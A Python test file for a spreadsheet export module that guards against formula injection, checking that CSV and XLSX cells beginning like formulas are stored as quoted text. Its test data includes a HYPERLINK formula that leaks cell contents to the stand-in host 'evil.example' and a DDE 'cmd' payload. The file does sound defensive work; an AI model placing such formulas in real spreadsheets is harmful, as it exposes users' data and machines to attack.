"""One safe-cell writer: a spreadsheet opens every export without running anything in it."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from innovera.core.exports import (
    Number,
    Sheet,
    clean_text,
    csv_lines,
    restore_cell,
    safe_cell,
    write_csv,
    write_xlsx,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Klicka")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


def test_ordinary_text_numbers_and_dates_pass_unchanged() -> None:
    assert safe_cell("Nyckelfri hemtjänst") == "Nyckelfri hemtjänst"
    assert safe_cell(-0.7) == -0.7
    assert safe_cell(None) is None
    assert restore_cell("'Citat'") == "'Citat'"


def test_control_characters_are_stripped_but_tabs_and_line_breaks_kept() -> None:
    assert safe_cell("Ett\x0bförslag\x00\x1f\x7f") == "Ettförslag"
    assert safe_cell("rad ett\nrad\ttvå\r\n") == "rad ett\nrad\ttvå\r\n"


def test_the_csv_holds_no_formula_and_reads_back_as_written() -> None:
    content = write_csv(["titel", "antal"], [[HYPERLINK, 3], ["Idé\x0b", -1]]).decode("utf-8")

    assert content.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))
    assert rows == [["titel", "antal"], ["'" + HYPERLINK, "3"], ["Idé", "-1"]]
    assert "".join(csv_lines(None, [["a"]])) == "a\r\n"


def test_the_workbook_stores_a_formula_lookalike_as_quoted_text() -> None:
    content = write_xlsx(
        [
            Sheet(
                "Fritext: svar?",
                ["Fråga", "Svar", "Medel"],
                [["Ge exempel", HYPERLINK, Number(3.75, "0.00")], ["x\x0b", "-rad", 0.81]],
                number_formats={2: "0%"},
            )
        ]
    )

    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["Fritext svar"]
    cell = sheet["B2"]
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert sheet["B3"].value == "-rad" and sheet["B3"].quotePrefix
    assert sheet["A3"].value == "x"
    assert sheet["C2"].number_format == "0.00" and sheet["C3"].number_format == "0%"
    assert sheet["A1"].font.bold


@given(st.text())
# Found by this test: a text that itself began with an apostrophe and a tab lost its apostrophe
# when read back.
@example("'\t")
@example("'=1")
@example("''+x")
def test_no_written_cell_starts_like_a_formula(text: str) -> None:
    written = safe_cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(written) == "".join(
        c for c in text if c in "\t\n\r" or not (ord(c) < 32 or ord(c) == 127)
    )


@given(st.text(alphabet=st.characters(codec="utf-8")))
def test_cleaned_text_keeps_every_character_but_the_control_ones(text: str) -> None:
    # The fast path (text that is all printable) must give what the character-by-character
    # rule gives: nothing but C0 controls other than tab and line breaks, and DEL, is dropped.
    expected = "".join(c for c in text if c in "\t\n\r" or not (ord(c) < 32 or ord(c) == 127))
    assert clean_text(text) == expected
